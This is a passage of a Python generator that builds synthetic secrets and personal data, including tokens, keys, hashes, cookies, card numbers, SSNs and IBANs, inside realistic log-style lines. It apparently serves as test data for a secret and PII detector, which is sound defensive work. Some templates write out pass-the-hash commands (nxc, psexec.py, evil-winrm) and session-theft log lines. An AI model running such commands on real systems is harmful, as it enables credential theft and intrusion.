    return service, tok, rng.choice(WEBHOOK_LEADS).format(u=url), False


STRIPE_LEADS = ["STRIPE_WEBHOOK_SECRET={v}", "> Ready! Your webhook signing secret is {v} (^C to quit)",
                "gitleaks: RuleID stripe-webhook-secret Secret: {v} File: .env.production",
                '"stripe.webhook.secret": "{v}"', "endpoint_secret = '{v}'", "{label}: {v}",
                "kubectl get secret payments -o jsonpath='{{.data}}' | base64 -d -> whsec: {v}"]


def v_stripe_whsec(rng: random.Random, i: int) -> Value:
    """A Stripe webhook signing secret: dashboard form (32 alphanumerics) or `stripe listen` form (64 hex)."""
    v = "whsec_" + (pick(rng, ALNUM, 32) if i % 3 else pick(rng, HEX, 64))
    style = "listen" if i % 3 == 0 else "dashboard"
    return style, v, rng.choice(STRIPE_LEADS).format(v=v, label=_lang(rng).key), False


def _url_pw(rng: random.Random) -> str:
    return pick(rng, ALNUM, rng.randint(10, 20)) + rng.choice("-_.~") + digits(rng, 2)


def v_connection_string(rng: random.Random, i: int) -> Value:
    """A connection string; the secret is its password or key only."""
    n, ip, user = i % 10, _ip(rng), rng.choice(USERS).replace(".", "_")
    if n == 0:
        s = password_value(rng).replace(";", "")
        return "adonet", s, f"Server=tcp:sql-prod-{rng.randint(1, 9)}.database.windows.net,1433;Initial Catalog=crm;" \
            f"User ID={user};Password={s};Encrypt=True;", False
    if n == 1:
        s = base64.b64encode(rng.randbytes(64)).decode()
        return "azure_storage", s, "DefaultEndpointsProtocol=https;AccountName=stlogs" + digits(rng, 3) + \
            f";AccountKey={s};EndpointSuffix=core.windows.net", False
    if n == 2:
        s = base64.b64encode(rng.randbytes(32)).decode()
        return "service_bus", s, f"Endpoint=sb://ns-{pick(rng, LOWER, 6)}.servicebus.windows.net/;" \
            f"SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey={s}", False
    if n == 3:
        s = _url_pw(rng)
        return "postgres_uri", s, f"DATABASE_URL=postgresql://{user}:{s}@{ip}:5432/billing", False
    if n == 4:
        s = _url_pw(rng)
        return "mongodb_srv", s, f"mongodb+srv://{user}:{s}@cluster0.{pick(rng, LOWNUM, 5)}.mongodb.net/" \
            "?retryWrites=true", False
    if n == 5:
        s = _url_pw(rng)
        return "jdbc", s, f"jdbc:mysql://{ip}:3306/shop?user={user}&password={s}&useSSL=true", False
    if n == 6:
        s = _url_pw(rng)
        return "redis", s, f"redis://:{s}@{ip}:6379/0", False
    if n == 7:
        s = password_value(rng).replace(";", "")
        return "odbc", s, "Driver={ODBC Driver 18 for SQL Server};Server=" + ip + f";Database=hr;Uid={user};" \
            f"Pwd={s};TrustServerCertificate=yes;", False
    if n == 8:
        s = base64.b64encode(rng.randbytes(32)).decode()
        return "iot_hub", s, f"HostName=iot-{pick(rng, LOWER, 5)}.azure-devices.net;DeviceId=gw{digits(rng, 2)};" \
            f"SharedAccessKey={s}", False
    s = _url_pw(rng)
    return "amqp", s, f"amqp://{user}:{s}@rabbit-{rng.randint(1, 4)}.corp.local:5672/prod", False


KEY_LEADS = ["API key: {v}", "X-API-Key: {v}", "x-apikey: {v}", "VirusTotal API key = {v}", "Shodan API key: {v}",
             "apikey={v}", "{label}: {v}", "{label} = \"{v}\"", "urlscan API-Key: {v}", "threat-intel feed api_key {v}",
             "AbuseIPDB Key: {v}", "Censys API secret: {v}"]


def v_labelled_key(rng: random.Random, i: int) -> Value:
    """An API key after a label; the shape follows the tool the label names (hex, base62, UUID)."""
    lead = KEY_LEADS[i % len(KEY_LEADS)]
    if "VirusTotal" in lead:
        v = pick(rng, HEX, 64)
    elif "urlscan" in lead:
        v = _guid(rng)
    elif "AbuseIPDB" in lead:
        v = pick(rng, HEX, 80)
    else:
        v = pick(rng, ALNUM, rng.choice([32, 40, 48]))
    return "label", v, lead.format(v=v, label=_lang(rng).key), False


ZW = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad"]


def _fullwidth(text: str) -> str:
    """ASCII 0x21-0x7E as the Unicode full-width forms (U+FF01-U+FF5E)."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _json_u(rng: random.Random, text: str) -> str:
    """Some characters of `text` as literal JSON `\\uXXXX` escapes, as a log that printed JSON source shows."""
    at = sorted(rng.sample(range(1, len(text) - 1), 3))
    return "".join(f"\\u{ord(c):04x}" if k in at else c for k, c in enumerate(text))


def _pct(rng: random.Random, text: str) -> str:
    """Some characters of `text` percent-encoded (RFC 3986), as a URL or form body carries them."""
    at = set(rng.sample(range(1, len(text) - 1), 4))
    return "".join(f"%{ord(c):02X}" if k in at else c for k, c in enumerate(text))


def v_disguised(rng: random.Random, i: int) -> Value:
    """A secret with a zero-width character, full-width forms, percent-encoding or JSON escapes inside."""
    base = [crc_token(rng, "ghp_"), "sk_live_" + pick(rng, ALNUM, 24), password_value(rng) + digits(rng, 2),
            "xoxb-" + digits(rng, 12) + "-" + digits(rng, 13) + "-" + pick(rng, ALNUM, 24)][i % 4]
    how = (i // 4) % 4
    if how == 0:
        at = rng.randint(3, len(base) - 2)
        v, style = base[:at] + rng.choice(ZW) + base[at:], "zero_width"
    elif how == 1:
        v, style = _fullwidth(base), "fullwidth"
    elif how == 2:
        v, style = _pct(rng, base), "percent"
    else:
        v, style = _json_u(rng, base), "json_u"
    lead = rng.choice(["token: {v}", "{label}: {v}", "Authorization: token {v}", "password={v}",
                       "pasted into chat by user: {v}", "secret={v}&remember=1"])
    return style, v, lead.format(v=v, label=_lang(rng).key), style == "json_u"


# ---- values: personal data ------------------------------------------------------------------------------------

LOCALS = ["jana.novakova", "m.okafor", "li.wei88", "sofia.rossi", "ahmet.yilmaz", "priya.nair", "kenji.sato",
          "olga.ivanova", "lukas.meier", "amelie.dupont", "carlos.mendez", "fatima.zahra", "sven.lindqvist",
          "aoife.byrne", "thanh.nguyen", "d.kowalski", "noor.hassan", "emma_w1984", "raj.patel.mumbai", "nikos.p"]
MAIL_DOMAINS = ["gmail.com", "outlook.com", "yahoo.co.uk", "web.de", "orange.fr", "gmx.de", "rediffmail.com",
                "proton.me", "icloud.com", "northwind-logistics.com", "fabrikam-bank.eu", "libero.it", "seznam.cz",
                "wp.pl", "naver.com", "qq.com", "mail.ru", "hotmail.es", "telenet.be", "kpnmail.nl"]
IDN_MAILS = ["josé.garcía@correo.es", "jürgen.müller@gmx.de", "ayşe.kaya@şirket.com.tr", "дмитрий@почта.рф",
             "θεόδωρος@ταχυδρομείο.gr", "さくら@例え.jp", "françois.lefèvre@laposte.fr"]
MAIL_STYLES = [("from", "From: \"{name}\" <{e}>"), ("to", "To: {e}"), ("reply_to", "Reply-To: {e}"),
               ("return_path", "Return-Path: <{e}>"), ("signin", "UserPrincipalName: {e}  ResultType: 50126"),
               ("spray", "[-] {e} - AADSTS50053 account locked"), ("hibp", "HIBP: {e} appears in {n} breaches"),
               ("lang_label", "{label}: {e}"), ("reporter", "reported by {e} via the Report Phish button"),
               ("mailto", "<a href=\"mailto:{e}\">contact the sender</a>"),
               ("kit_log", "phishing kit log: victim={e} ip={ip}"),
               ("recipients", "recipients (3): {e}, finance-team@corp.net, ap@corp.net")]


def v_email(rng: random.Random, i: int) -> Value:
    """A person's e-mail address in headers, sign-in logs, spray output, breach lookups or a user message."""
    e = rng.choice(IDN_MAILS) if i % 9 == 4 else f"{rng.choice(LOCALS)}@{rng.choice(MAIL_DOMAINS)}"
    style, tpl = MAIL_STYLES[i % len(MAIL_STYLES)]
    name = e.split("@")[0].replace(".", " ").title()
    return style, e, tpl.format(e=e, name=name, n=rng.randint(2, 14), ip=_ip(rng), label=_lang(rng).email), False


PhoneForm = tuple[str, Callable[[random.Random], str]]


def _nanp(rng: random.Random) -> tuple[str, str, str]:
    """NPA (real area codes of the US and Canada), NXX (2-9, not N11, not 555), line."""
    npa = rng.choice(["212", "213", "305", "312", "404", "415", "512", "617", "646", "702", "720", "206", "214",
                      "303", "818", "416", "514", "604", "403", "613", "902", "204"])
    while True:
        nxx = str(rng.randint(2, 9)) + digits(rng, 2)
        if nxx[1:] != "11" and nxx != "555":
            return npa, nxx, digits(rng, 4)


US_FORMS: list[PhoneForm] = [
    ("paren", lambda r: "({}) {}-{}".format(*_nanp(r))), ("dash", lambda r: "{}-{}-{}".format(*_nanp(r))),
    ("dot", lambda r: "{}.{}.{}".format(*_nanp(r))), ("e164", lambda r: "+1{}{}{}".format(*_nanp(r))),
    ("intl", lambda r: "+1 {} {} {}".format(*_nanp(r))), ("one_dash", lambda r: "1-{}-{}-{}".format(*_nanp(r)))]


def _uk(rng: random.Random, lead: str, head: int, tail: int, drama: str) -> str:
    """A UK number `lead` + digits, grouped; Ofcom's drama range (`drama` prefix) redrawn."""
    while True:
        a, b = digits(rng, head), digits(rng, tail)
        if not (lead + a + b).startswith(drama):
            return f"{lead}{a} {b}"


UK_FORMS: list[PhoneForm] = [
    ("mobile", lambda r: _uk(r, "07" + r.choice("1234579"), 2, 6, "07700900")),
    ("mobile_intl", lambda r: "+44 " + _uk(r, "7" + r.choice("1234579"), 2, 6, "7700900")),
    ("london", lambda r: "020 " + _uk(r, r.choice("378"), 3, 4, "79460")),
    ("manchester", lambda r: "0161 " + _uk(r, str(r.randint(2, 9)), 2, 4, "4960")),
    ("birmingham", lambda r: "0121 " + _uk(r, str(r.randint(2, 9)), 2, 4, "4960")),
    ("edinburgh", lambda r: "0131 " + _uk(r, str(r.randint(2, 9)), 2, 4, "4960")),
    ("intl_geo", lambda r: "+44 (0)20 " + _uk(r, r.choice("378"), 3, 4, "79460"))]

FR_FICTION = ("019900", "026191", "035301", "046571", "053649", "063998", "0995")
"""ARCEP's numbers reserved for fiction (01 99 00, 02 61 91, 03 53 01, 04 65 71, 05 36 49, 06 39 98, 09 95)."""


def _fr(rng: random.Random, first: str) -> list[str]:
    """A French number in pairs (0 + `first` + 8 digits, not 0x 0; 07 mobiles from 073), the fiction ranges
    redrawn."""
    while True:
        rest = digits(rng, 8)
        flat = "0" + first + rest
        if not flat.startswith(FR_FICTION) and rest[0] not in ("012" if first == "7" else "0"):
            return ["0" + first] + [rest[k:k + 2] for k in range(0, 8, 2)]


def _fr_intl(rng: random.Random, first: str, trunk: str) -> str:
    """+33, the trunk 0 dropped (or kept in parentheses), then the pairs."""
    pairs = _fr(rng, first)
    return f"+33 {trunk}{first} " + " ".join(pairs[1:])


FR_FORMS: list[PhoneForm] = [
    ("mobile", lambda r: " ".join(_fr(r, r.choice("67")))), ("dotted", lambda r: ".".join(_fr(r, "6"))),
    ("geo", lambda r: " ".join(_fr(r, r.choice("12345")))), ("compact", lambda r: "".join(_fr(r, "7"))),
    ("intl", lambda r: _fr_intl(r, r.choice("67"), "")), ("intl_0", lambda r: _fr_intl(r, "1", "(0)"))]

DE_MOBILE = [("151", 8), ("152", 8), ("157", 8), ("159", 8), ("160", 7), ("162", 7), ("170", 7), ("171", 7),
             ("172", 7), ("173", 7), ("175", 7), ("176", 8), ("177", 7), ("178", 7), ("179", 7)]
DE_CITY = [("30", 8), ("89", 8), ("40", 8), ("69", 8), ("221", 7)]


def _de(rng: random.Random, table: list[tuple[str, int]]) -> tuple[str, str]:
    code, n = rng.choice(table)
    return code, str(rng.randint(2, 9)) + digits(rng, n - 1)


DE_FORMS: list[PhoneForm] = [
    ("mobile", lambda r: "0{} {}".format(*_de(r, DE_MOBILE))), ("mobile_slash", lambda r: "0{}/{}".format(
        *_de(r, DE_MOBILE))), ("mobile_intl", lambda r: "+49 {} {}".format(*_de(r, DE_MOBILE))),
    ("city", lambda r: "0{} {}".format(*_de(r, DE_CITY))), ("city_paren", lambda r: "(0{}) {}".format(
        *_de(r, DE_CITY))), ("city_intl", lambda r: "+49 (0){} {}".format(*_de(r, DE_CITY)))]


def _in_mobile(rng: random.Random) -> str:
    return rng.choice("6789") + digits(rng, 9)


IN_FORMS: list[PhoneForm] = [
    ("intl_space", lambda r: (lambda m: f"+91 {m[:5]} {m[5:]}")(_in_mobile(r))),
    ("intl_dash", lambda r: f"+91-{_in_mobile(r)}"), ("trunk", lambda r: f"0{_in_mobile(r)}"),
    ("split", lambda r: (lambda m: f"{m[:5]} {m[5:]}")(_in_mobile(r))),
    ("landline", lambda r: f"0{r.choice(['11', '22', '80', '44'])}-{r.randint(2, 6)}{digits(r, 3)} {digits(r, 4)}"),
    ("landline_intl", lambda r: f"+91 {r.choice(['11', '22', '80', '33'])} {r.randint(2, 6)}{digits(r, 3)} "
                                f"{digits(r, 4)}")]

PHONE_WORDS = {
    "us": ["phone", "cell", "callback number", "mobile", "call me at", "tel", "MFA phone", "on-call"],
    "uk": ["mobile", "tel", "ring me on", "contact number", "phone", "on-call mobile"],
    "fr": ["tél.", "portable", "téléphone", "joignable au", "numéro de rappel", "mobile"],
    "de": ["Tel.", "Telefon", "Handy", "Mobil", "Rückruf unter", "Rufbereitschaft"],
    "in": ["mobile no.", "phone", "मोबाइल", "फ़ोन नंबर", "contact", "WhatsApp", "ph."]}
PHONE_TEMPLATES = ["{c}: {n}", "{c} {n}", "Reporter — {c} {n}", "| on-call | {c} | {n} |",
                   "MFA method registered: {c} {n}", "vishing report, caller's {c} {n}", "{c} {n} (after 18:00)",
                   "victim asked us to call back, {c}: {n}"]


def phone_value(rng: random.Random, i: int, forms: list[PhoneForm], country: str) -> Value:
    """A national (or +CC) number of the country's plan with a context word in its language."""
    style, make = forms[i % len(forms)]
    n = make(rng)
    snip = rng.choice(PHONE_TEMPLATES).format(c=rng.choice(PHONE_WORDS[country]), n=n)
    return style, n, snip, False


def v_phone_us_ca(rng: random.Random, i: int) -> Value:
    """A NANP number (US and Canada)."""
    return phone_value(rng, i, US_FORMS, "us")


def v_phone_uk(rng: random.Random, i: int) -> Value:
    """A UK number."""
    return phone_value(rng, i, UK_FORMS, "uk")


def v_phone_fr(rng: random.Random, i: int) -> Value:
    """A French number."""
    return phone_value(rng, i, FR_FORMS, "fr")


def v_phone_de(rng: random.Random, i: int) -> Value:
    """A German number."""
    return phone_value(rng, i, DE_FORMS, "de")


def v_phone_in(rng: random.Random, i: int) -> Value:
    """An Indian number."""
    return phone_value(rng, i, IN_FORMS, "in")


SSN_STYLES = ["DLP policy 'U.S. PII' matched: SSN {v}", "{v} | Barnes | payroll", "Employee SSN: {v}",
              "ssn={v}&dob=1987-04-12", "social security number {v}", "SSN#{v}", "W-2 request, SSN: {v}",
              "SSN (last export row): {v}"]


def ssn_value(rng: random.Random) -> tuple[str, str, str]:
    """Area 001-899 but 666, group 01-99, serial 0001-9999 (SSA)."""
    while True:
        area = rng.randint(1, 899)
        if area != 666:
            return f"{area:03d}", f"{rng.randint(1, 99):02d}", f"{rng.randint(1, 9999):04d}"


def v_ssn(rng: random.Random, i: int) -> Value:
    """A US SSN, dashed, spaced or compact, with its label."""
    a, g, s = ssn_value(rng)
    style = ["dashed", "spaced", "compact"][i % 3]
    v = {"dashed": f"{a}-{g}-{s}", "spaced": f"{a} {g} {s}", "compact": a + g + s}[style]
    return style, v, rng.choice(SSN_STYLES).format(v=v), False


CARD_BRANDS = {"visa": (["4"], 16), "mastercard": (["51", "52", "53", "54", "55"], 16),
               "mastercard2": ([str(n) for n in range(2221, 2721)], 16), "amex": (["34", "37"], 15),
               "discover": (["6011", "644", "645", "646", "647", "648", "649", "65"], 16),
               "jcb": ([str(n) for n in range(3528, 3590)], 16), "diners": (["36"], 14), "unionpay": (["62"], 16)}
PUBLISHED_TEST_CARDS = {"4111111111111111", "4242424242424242", "5555555555554444", "378282246310005",
                        "6011111111111117", "3530111333300000", "5105105105105100", "4012888888881881"}
CARD_STYLES = ["{label}: {v}", "cc_number={v}&exp=0{m}%2F2{y}&cvv={cvv}", "skimmer beacon decoded: {v}|0{m}/2{y}",
               "DLP match (Credit Card Number, confidence 85): {v}", "{v} | 0{m}/2{y} | Visa Gold",
               "\"cardNumber\":\"{v}\",\"holder\":\"A. Lindqvist\""]


def card_number(rng: random.Random, brand: str) -> str:
    """An IIN of the brand's range, random digits, the Luhn digit; providers' test numbers redrawn."""
    prefixes, length = CARD_BRANDS[brand]
    while True:
        partial = rng.choice(prefixes)
        partial += digits(rng, length - 1 - len(partial))
        number = partial + luhn_digit(partial)
        if number not in PUBLISHED_TEST_CARDS:
            return number


def v_card(rng: random.Random, i: int) -> Value:
    """A payment card number in a DLP alert, a skimmer beacon, a form post or a dumped row."""
    brand = list(CARD_BRANDS)[i % len(CARD_BRANDS)]
    number = card_number(rng, brand)
    sep = ["", " ", "-"][i % 3]
    v = group_card(number, sep) if sep else number
    snip = rng.choice(CARD_STYLES).format(v=v, label=_lang(rng).card, m=rng.randint(1, 9), y=rng.randint(6, 9),
                                          cvv=digits(rng, 3))
    return f"{brand}_{['compact', 'spaced', 'dashed'][i % 3]}", v, snip, False


IBAN_BBAN = {"DE": "8n10n", "FR": "5n5n11c2n", "GB": "4a6n8n", "ES": "4n4n1n1n10n", "IT": "1a5n5n12c",
             "NL": "4a10n", "BE": "3n7n2n", "CH": "5n12c", "AT": "5n11n", "PL": "8n16n", "PT": "4n4n11n2n",
             "SE": "3n16n1n", "IE": "4a6n8n", "DK": "4n9n1n", "FI": "3n11n", "CZ": "4n6n10n", "RO": "4a16c",
             "LT": "5n11n", "HU": "3n4n1n15n1n", "LU": "3n13c", "TR": "5n1n16c", "SA": "2n18c", "AE": "3n16n"}
IBAN_STYLES = ["Please update our bank details, new {label}: {v}", "fraudulent transfer to {v} (BEC, case opened)",
               "payroll diversion request: change my {label} to {v}", "{label}: {v}", "beneficiary account {v}",
               "mule account flagged by the bank: {v}"]


def v_iban(rng: random.Random, i: int) -> Value:
    """An IBAN of the registry's BBAN structure with its MOD 97-10 digits, in fours or compact."""
    country = list(IBAN_BBAN)[i % len(IBAN_BBAN)]
    b = bban(rng, IBAN_BBAN[country])
    compact = country + iban_check(country, b) + b
    v = group(compact, 4, " ") if i % 2 else compact
    return ("print" if i % 2 else "compact"), v, rng.choice(IBAN_STYLES).format(v=v, label=_lang(rng).iban), False


# ---- values: tokens, sessions, keys and hashes ----------------------------------------------------------------

def jwt_value(rng: random.Random) -> str:
    """A signed JWT (RFC 7519, JWS compact form of RFC 7515) as an IdP issues it: RS256 or HS256."""
    alg = rng.choice(["RS256", "HS256"])
    header = {"alg": alg, "typ": "JWT", "kid": pick(rng, URLSAFE, 27)} if alg == "RS256" else {"alg": alg,
                                                                                               "typ": "JWT"}
    iat = rng.randint(1_735_000_000, 1_760_000_000)
    payload = {"iss": f"https://login.microsoftonline.com/{_guid(rng)}/v2.0", "sub": pick(rng, URLSAFE, 43),
               "aud": _guid(rng), "iat": iat, "exp": iat + 3600, "upn": f"{rng.choice(LOCALS)}@corp.net"}
    sig = rng.randbytes(256 if alg == "RS256" else 32)
    parts = (json.dumps(part, separators=(",", ":")).encode() for part in (header, payload))
    return ".".join([*(b64url(part) for part in parts), b64url(sig)])


JWT_LEADS = ["Authorization: Bearer {v}", "Cookie: id_token={v}", "localStorage['access_token'] = '{v}'",
             "jwt_tool: Original JWT: {v}", "Set-Cookie: auth={v}; HttpOnly; Secure",
             "redirect captured: https://portal.corp.net/callback#access_token={v}&token_type=Bearer", "{v}"]


def v_jwt(rng: random.Random, i: int) -> Value:
    """A JWT in a header, cookie, storage dump or OAuth redirect."""
    v = jwt_value(rng)
    return "jws", v, JWT_LEADS[i % len(JWT_LEADS)].format(v=v), False


def laravel_session(rng: random.Random) -> str:
    """Laravel's encrypted session cookie: base64 of {iv, value, mac, tag} JSON, `=` percent-encoded."""
    body = {"iv": base64.b64encode(rng.randbytes(16)).decode(), "value": base64.b64encode(rng.randbytes(48)).decode(),
            "mac": pick(rng, HEX, 64), "tag": ""}
    return base64.b64encode(json.dumps(body, separators=(",", ":")).encode()).decode().replace("=", "%3D")


COOKIES: list[tuple[str, Callable[[random.Random], str]]] = [
    ("JSESSIONID", lambda r: pick(r, "0123456789ABCDEF", 32)),
    ("PHPSESSID", lambda r: pick(r, "0123456789abcdefghijklmnopqrstuv", 26)),
    ("ASP.NET_SessionId", lambda r: pick(r, "abcdefghijklmnopqrstuvwxyz012345", 24)),
    ("sessionid", lambda r: pick(r, LOWNUM, 32)),
    ("connect.sid", lambda r: f"s%3A{pick(r, URLSAFE, 32)}.{pick(r, ALNUM, 43)}"),
    ("ESTSAUTHPERSISTENT", lambda r: "0.A" + pick(r, URLSAFE, r.randint(220, 360))),
    ("laravel_session", laravel_session)]
COOKIE_LEADS = ["Cookie: theme=dark; {n}={v}; lang=en", "Set-Cookie: {n}={v}; Path=/; HttpOnly; Secure",
                "[evilginx] captured session cookie {n}={v}", ".portal.corp.net\tTRUE\t/\tTRUE\t0\t{n}\t{v}",
                "{{\"name\": \"{n}\", \"value\": \"{v}\", \"domain\": \".corp.net\"}}",
                "document.cookie exfiltrated to attacker: {n}={v}"]


def v_session_cookie(rng: random.Random, i: int) -> Value:
    """A session cookie's value (RFC 6265) as a request, a response, an AiTM kit or a cookie jar shows it."""
    name, make = COOKIES[i % len(COOKIES)]
    v = make(rng)
    return name.lower(), v, rng.choice(COOKIE_LEADS).format(n=name, v=v), False


def v_auth_header(rng: random.Random, i: int) -> Value:
    """An HTTP credential: Basic's base64, a Bearer token, Digest's response, SigV4's signature."""
    n = i % 5
    if n in (0, 4):
        v = base64.b64encode(f"{rng.choice(USERS)}:{password_value(rng)}".encode()).decode()
        head = "Authorization" if n == 0 else "Proxy-Authorization"
        return "basic", v, f"{head}: Basic {v}", False
    if n == 1:
        v = pick(rng, URLSAFE, rng.choice([40, 64]))
        return "bearer", v, f"Authorization: Bearer {v}", False
    if n == 2:
        v = pick(rng, HEX, 32)
        return "digest", v, f'Authorization: Digest username="{rng.choice(USERS)}", realm="corp", nonce="' \
            f'{pick(rng, HEX, 32)}", uri="/admin/", qop=auth, nc=00000001, cnonce="{pick(rng, HEX, 16)}", ' \
            f'response="{v}"', False
    v = pick(rng, HEX, 64)
    return "sigv4", v, f"Authorization: AWS4-HMAC-SHA256 Credential={aws_key_id(rng)}/20250302/eu-west-1/s3/" \
        f"aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={v}", False


def _pem_body(pem: str) -> str:
    """The base64 lines between a PEM block's armour lines (RFC 7468)."""
    return "\n".join(line for line in pem.strip().splitlines() if not line.startswith("-----"))


def v_private_key(rng: random.Random, i: int) -> Value:
    """A private key (PKCS#8 or SEC1 EC, OpenSSH Ed25519, or inside GCP service-account JSON); the secret is the
    base64 body."""
    n = i % 4
    if n == 2:
        seed = rng.randbytes(32)
        public = ed25519.Ed25519PrivateKey.from_private_bytes(seed).public_key().public_bytes(
            serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        blob = openssh_ed25519_blob(seed, public, rng.randbytes(4), f"{rng.choice(USERS)}@{rng.choice(HOSTS)}".encode())
        body = group(base64.b64encode(blob).decode(), 70, "\n")
        pem = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----"
        return "openssh", body, f"$ cat /home/{rng.choice(USERS)}/.ssh/id_ed25519\n{pem}", False
    key = ec.derive_private_key(rng.randint(1, 2 ** 255), ec.SECP256R1())
    fmt = serialization.PrivateFormat.TraditionalOpenSSL if n == 1 else serialization.PrivateFormat.PKCS8
    pem = key.private_bytes(serialization.Encoding.PEM, fmt, serialization.NoEncryption()).decode()
    body = _pem_body(pem)
    if n == 3:
        sa = {"type": "service_account", "project_id": f"sec-tools-{digits(rng, 6)}",
              "private_key_id": pick(rng, HEX, 40), "private_key": pem,
              "client_email": f"siem-export@sec-tools-{digits(rng, 6)}.iam.gserviceaccount.com"}
        return "gcp_json", body, f"found in public bucket: {json.dumps(sa)}", True
    return ("sec1" if n == 1 else "pkcs8"), body, f"nessus plugin: private key readable at /etc/ssl/private/" \
        f"app.key\n{pem.strip()}", False


NT_STYLES = ["{user}:{rid}:aad3b435b51404eeaad3b435b51404ee:{h}:::", "\t * NTLM     : {h}",
             "nxc smb {ip}/24 -u Administrator -H {h} --local-auth", "psexec.py -hashes :{h} {ad}/{user}@{ip}",
             "Hash NTLM: {h}", "{{\"username\": \"{user}\", \"NThash\": \"{h}\", \"LMHash\": null}}",
             "evil-winrm -i {ip} -u {user} -H {h}"]


def v_ntlm_hash(rng: random.Random, i: int) -> Value:
    """An NT hash (32 hex) as secretsdump, mimikatz, pypykatz or a pass-the-hash command line prints it."""
    h = pick(rng, HEX, 32)
    tpl = NT_STYLES[i % len(NT_STYLES)]
    return "nt", h, tpl.format(h=h, user=rng.choice(USERS), rid=rng.randint(500, 5000), ip=_ip(rng),
                               ad=rng.choice(AD)), False


PROVIDER_LEADS = ["{env}={v}", "export {env}='{v}'", "gitleaks finding, Secret: {v}, File: deploy/.env",
                  "trufflehog: Found verified result, Raw result: {v}", 'found in the JS bundle: const k = "{v}";',
                  '"{envl}": "{v}"', "{label}: {v}"]


def provider(env: str, make: Callable[[random.Random, int], tuple[str, str]]) -> Callable[[random.Random, int],
                                                                                           Value]:
    """A value generator for a provider token written by `make` (style, token) after one of the leads."""
    def gen(rng: random.Random, i: int) -> Value:
        style, v = make(rng, i)
        lead = PROVIDER_LEADS[i % len(PROVIDER_LEADS)]
        return style, v, lead.format(env=env, envl=env.lower(), v=v, label=_lang(rng).key), False
    return gen


def github_token(rng: random.Random, i: int) -> tuple[str, str]:
    """GitHub's 2021 formats: `ghp_` and kin with the CRC32 checksum, or a fine-grained `github_pat_`."""
    if i % 6 == 5:
        return "github_pat", f"github_pat_{pick(rng, ALNUM, 22)}_{pick(rng, ALNUM, 59)}"
    prefix = ["ghp_", "gho_", "ghu_", "ghs_", "ghr_"][i % 6]
    return prefix.rstrip("_"), crc_token(rng, prefix)


def slack_token(rng: random.Random, i: int) -> tuple[str, str]:
    """Slack bot (`xoxb-`), user (`xoxp-`) and app-level (`xapp-`) tokens as Slack's docs show them."""
    n = i % 3
    if n == 0:
        return "xoxb", f"xoxb-{digits(rng, 12)}-{digits(rng, 13)}-{pick(rng, ALNUM, 24)}"
    if n == 1:
        return "xoxp", f"xoxp-{digits(rng, 12)}-{digits(rng, 12)}-{digits(rng, 13)}-{pick(rng, HEX, 32)}"
    return "xapp", f"xapp-1-A{pick(rng, UPPER + string.digits, 10)}-{digits(rng, 13)}-{pick(rng, HEX, 64)}"


def gitlab_token(rng: random.Random, i: int) -> tuple[str, str]:
    """GitLab personal (`glpat-`), pipeline trigger (`glptt-`) and runner (`glrt-`) tokens."""
    n = i % 3
    if n == 0:
        return "glpat", "glpat-" + pick(rng, URLSAFE, 20)
    if n == 1:
        return "glptt", "glptt-" + pick(rng, HEX, 40)
    return "glrt", "glrt-" + pick(rng, URLSAFE, 20)


def google_api_key(rng: random.Random, _i: int) -> tuple[str, str]:
    """A Google API key: `AIza` and 35 base64url characters."""
    return "aiza", "AIza" + pick(rng, URLSAFE, 35)


def sendgrid_key(rng: random.Random, _i: int) -> tuple[str, str]:
    """A SendGrid API key: `SG.`, a 22-character id, `.`, a 43-character secret."""
    return "sg", f"SG.{pick(rng, URLSAFE, 22)}.{pick(rng, URLSAFE, 43)}"


TOTP_LEADS = ["otpauth://totp/Corp%20VPN:{user}?secret={v}&issuer=Corp%20VPN&algorithm=SHA1&digits=6&period=30",
              "Can't scan the QR code? Enter this key manually: {v}", "TOTP secret: {v}",
              "KeePass export, entry 'AWS root', otp: otpauth://totp/AWS:root?secret={v}",
              "MFA enrolment response: {{\"secretKey\": \"{v}\", \"qrCodeUrl\": \"...\"}}"]


def v_totp_seed(rng: random.Random, i: int) -> Value:
    """A TOTP seed (RFC 6238; base32 of RFC 4648), in an otpauth URI or grouped for manual entry."""
    seed = pick(rng, BASE32, rng.choice([16, 32]))
    lead = TOTP_LEADS[i % len(TOTP_LEADS)]
    if "manually" in lead:
        seed = group(seed.lower(), 4, " ")
    return ("uri" if "otpauth" in lead else "plain"), seed, lead.format(v=seed, user=rng.choice(USERS)), False


RECOVERY_LABELS = ["recovery code", "backup code", "Wiederherstellungscode", "code de récupération",
                   "código de recuperación", "リカバリーコード", "codice di recupero", "kod odzyskiwania"]


def v_recovery_code(rng: random.Random, i: int) -> Value:
    """An account recovery code: GitHub (5-5 hex), Google (4 4 digits), Microsoft (5 groups of 5)."""
    n = i % 3
    if n == 0:
        v, style = f"{pick(rng, HEX, 5)}-{pick(rng, HEX, 5)}", "github"
    elif n == 1:
        v, style = f"{digits(rng, 4)} {digits(rng, 4)}", "google"
    else:
        v, style = "-".join(pick(rng, UPPER + string.digits, 5) for _ in range(5)), "microsoft"
    lead = rng.choice(["{l}: {v}", "user pasted their {l} into the ticket: {v}", "{l} (unused): {v}",
                       "found in Desktop\\codes.txt on the laptop — {l} {v}"])
    return style, v, lead.format(l=rng.choice(RECOVERY_LABELS), v=v), False


# ---- values: national ids (outside the target) ----------------------------------------------------------------

def se_personnummer(rng: random.Random) -> str:
    """Swedish personnummer YYMMDD-NNNC: C the Luhn digit of the nine before it (Skatteverket)."""
    partial = f"{rng.randint(40, 99):02d}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{digits(rng, 3)}"
    return f"{partial[:6]}-{partial[6:]}{luhn_digit(partial)}"


def fi_hetu(rng: random.Random) -> str:
    """Finnish henkilötunnus DDMMYY, century sign, NNN (002-899), and the mod 31 check character (DVV)."""
    day, month, year = rng.randint(1, 28), rng.randint(1, 12), rng.randint(0, 99)
    sign = rng.choice("-A") if year < 6 else "-"
    n = rng.randint(2, 899)
    num = int(f"{day:02d}{month:02d}{year:02d}{n:03d}")
    return f"{day:02d}{month:02d}{year:02d}{sign}{n:03d}" + "0123456789ABCDEFHJKLMNPRSTUVWXY"[num % 31]


def cn_resident_id(rng: random.Random) -> str:
